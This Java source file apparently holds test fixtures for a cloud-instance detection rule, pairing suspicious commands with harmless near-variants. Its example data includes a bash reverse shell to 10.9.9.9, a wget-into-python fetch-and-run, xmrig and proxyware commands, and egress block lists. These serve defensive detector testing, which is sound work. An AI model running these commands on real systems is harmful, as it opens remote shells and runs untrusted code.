package io.tallyman.links;

import static io.tallyman.Clouds.ACCOUNT;
import static io.tallyman.Clouds.launched;
import static io.tallyman.Clouds.observed;
import static io.tallyman.Clouds.origin;
import static io.tallyman.Clouds.ran;
import static io.tallyman.Clouds.told;
import static io.tallyman.Clouds.wrote;
import static io.tallyman.History.START;
import static io.tallyman.links.MachineStories.FIRST_BOOT_WINDOW;
import static io.tallyman.links.MachineStories.ID;
import static io.tallyman.links.MachineStories.LAUNCH;
import static io.tallyman.links.MachineStories.MACHINE;
import static io.tallyman.links.MachineStories.NAME;
import static io.tallyman.links.MachineStories.OTHER_ID;
import static io.tallyman.links.MachineStories.brokenByOtherHosts;
import static io.tallyman.links.MachineStories.brokenByOtherInstances;
import static io.tallyman.links.MachineStories.run;
import static io.tallyman.links.MachineStories.silencedByCatalog;
import static io.tallyman.links.MachineStories.silencedByCommand;
import static io.tallyman.links.MachineStories.withWindow;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.stream.Stream;

/** Rows of what runs in an AN0692 instance, what its user data says, and what its first boot wrote. */
final class GuestRows {

    private static final Instant SOON = START.plusSeconds(5);
    private static final String APPROVED = "ApprovedEgress: {networks: [198.51.100.7/32]}";
    private static final String ALMOST_APPROVED = "ApprovedEgress: {networks: [198.51.100.6/32]}";
    private static final String BLOCKING = "OutboundCIDRBlockList: {networks: [10.9.9.0/24]}";
    private static final String ALMOST_BLOCKING = "OutboundCIDRBlockList: {networks: [10.9.8.0/24]}";
    private static final String BLOCKING_TOO = "OutboundCIDRBlockList: {networks: [10.9.9.9/32]}";

    private GuestRows() {}

    /** A command, the nearest one that is harmless, and what else it takes. */
    private record Example(List<String> line, List<String> harmless, String tunables) {

        String[] command() {
            return line.toArray(String[]::new);
        }

        String[] nearest() {
            return harmless.toArray(String[]::new);
        }
    }

    private static final Example OUTBOUND =
            new Example(List.of("curl", "http://198.51.100.7/x"), List.of("curl", "http://10.1.2.3/x"), "");
    private static final Example DOWNLOAD = new Example(
            List.of("bash", "-c", "wget -qO- http://198.51.100.7/i | python3"),
            List.of("bash", "-c", "wget -qO- http://198.51.100.7/i"),
            "SuspiciousBinaries: []");
    private static final Example REVERSE_SHELL = new Example(
            List.of("bash", "-c", "bash -i >& /dev/tcp/10.9.9.9/443 0>&1"), List.of("bash", "-c", "bash -i"), "");
    private static final Example MINER =
            new Example(List.of("xmrig", "--threads", "2"), List.of("rig", "--threads", "2"), "");
    private static final Example PROXYWARE =
            new Example(List.of("pawns-cli", "-accept-tos"), List.of("pawn-cli", "-accept-tos"), "");
    private static final Example BLOCKED =
            new Example(List.of("fetcher", "http://10.9.9.9/x"), List.of("fetcher", "http://10.9.8.9/x"), BLOCKING);

    static Stream<Row> rows() {
        return Stream.of(
                outbound(command("AN0692.4 listed binary executed with an outbound argument", OUTBOUND)),
                command("AN0692.4 downloaded content executed", DOWNLOAD).silencedBy(APPROVED, ALMOST_APPROVED),
                command("AN0692.4 reverse shell opened", REVERSE_SHELL),
                command("AN0692.4 known miner executed", MINER),
                command("AN0692.4 known proxyware executed", PROXYWARE),
                command("AN0692.4 command names a blocked destination", BLOCKED)
                        .silencedBy(ALMOST_BLOCKING, BLOCKING_TOO),
                outbound(userData("AN0692.4 user data downloads with a listed binary", OUTBOUND)),
                userData("AN0692.4 user data runs what it downloads", DOWNLOAD).silencedBy(APPROVED, ALMOST_APPROVED),
                userData("AN0692.4 user data opens a reverse shell", REVERSE_SHELL),
                userData("AN0692.4 user data runs a known miner", MINER),
                userData("AN0692.4 user data runs known proxyware", PROXYWARE),
                userData("AN0692.4 user data names a blocked destination", BLOCKED)
                        .silencedBy(ALMOST_BLOCKING, BLOCKING_TOO),
                minerInOutput(),
                blockedInOutput());
    }

    private static Row outbound(Row row) {
        return row.silencedBy("SuspiciousBinaries: [wget]", "SuspiciousBinaries: [curl]")
                .silencedBy(APPROVED, ALMOST_APPROVED);
    }

    private static Row common(Row row) {
        return silencedByCatalog(brokenByOtherInstances(row));
    }

    private static Story base(Example example) {
        return example.tunables.isEmpty() ? MACHINE : MACHINE.tuned(example.tunables);
    }

    private static Row command(String rule, Example example) {
        var line = example.command();
        var whole = base(example).with(Link.COMMAND, run(SOON, line));
        var row = common(Row.deciding(rule, whole, Link.CREATION, Link.PLACE, Link.COMMAND));
        row = silencedByCommand(brokenByOtherHosts(row, line), line[0]);
        var firstBoot = whole.with(Link.COMMAND, ran(SOON, origin("linux:cloud-init", NAME, ACCOUNT), line));
        return withWindow(row, Link.COMMAND, time -> run(time, line))
                .broken("a harmless command", whole.with(Link.COMMAND, run(SOON, example.nearest())))
                .also("before anybody says that it runs", whole.with(Link.COMMAND, run(LAUNCH.plusSeconds(1), line)))
                .also("by the first-boot log", firstBoot)
                .also("by the kernel, without UserDataInspection", whole.tuned("UserDataInspection: false"))
                .broken(
                        "by the first-boot log, without UserDataInspection",
                        firstBoot.tuned("UserDataInspection: false"));
    }

    private static Row userData(String rule, Example example) {
        var line = example.command();
        var whole = base(example).with(Link.COMMAND, told(SOON, ID, line));
        var row = common(Row.deciding(rule, whole, Link.CREATION, Link.COMMAND));
        return silencedByCommand(row, line[0])
                .broken("a harmless line", whole.with(Link.COMMAND, told(SOON, ID, example.nearest())))
                .broken("another instance's user data", whole.with(Link.COMMAND, told(SOON, OTHER_ID, line)))
                .broken(
                        "another instance of the same image's user data",
                        whole.with(Link.CREATION, launched(LAUNCH, ID, MachineStories.GOLDEN))
                                .with(Link.COMMAND, told(SOON, ID, line)))
                .also("read days before", whole.with(Link.COMMAND, told(LAUNCH.minus(Duration.ofDays(3)), ID, line)))
                .silencedBy("UserDataInspection: false", "UserDataInspection: true")
                .silencedBy("FirstBootWindow: 4s", "FirstBootWindow: 5s")
                .edge(
                        "FirstBootWindow after the start",
                        FIRST_BOOT_WINDOW,
                        since -> whole.with(Link.COMMAND, told(START.plus(since), ID, line)));
    }

    private static Row output(Row row, String text) {
        return withWindow(common(row), Link.COMMAND, time -> wrote(time, NAME, text))
                .broken("another host's log", row.whole().with(Link.COMMAND, wrote(SOON, "ip-10-0-1-6", text)))
                .broken(
                        "another instance has the name",
                        row.whole().with(Link.PLACE, observed(OTHER_ID, NAME, "10.0.1.5")))
                .silencedBy("UserDataInspection: false", "UserDataInspection: true");
    }

    private static Row minerInOutput() {
        var banner = " * ABOUT        XMRig/6.22.2 gcc/13.2.1";
        var whole = MACHINE.with(Link.COMMAND, wrote(SOON, NAME, banner));
        var row = Row.deciding(
                "AN0692.4 first boot's output shows a miner", whole, Link.CREATION, Link.PLACE, Link.COMMAND);
        return output(row, banner)
                .broken(
                        "another program's banner",
                        whole.with(Link.COMMAND, wrote(SOON, NAME, " * ABOUT nginx/1.27.3")));
    }

    private static Row blockedInOutput() {
        var line = "connecting to 10.9.9.9:4444";
        var whole = MACHINE.tuned(BLOCKING).with(Link.COMMAND, wrote(SOON, NAME, line));
        var row = Row.deciding(
                "AN0692.4 first boot's output names a blocked destination",
                whole,
                Link.CREATION,
                Link.PLACE,
                Link.COMMAND);
        return output(row, line)
                .broken(
                        "another destination",
                        whole.with(Link.COMMAND, wrote(SOON, NAME, "connecting to 10.9.8.9:4444")))
                .also(
                        "a mining pool",
                        MACHINE.with(Link.COMMAND, wrote(SOON, NAME, "connecting to pool.minexmr.com:4444")))
                .silencedBy(ALMOST_BLOCKING, BLOCKING_TOO);
    }
}
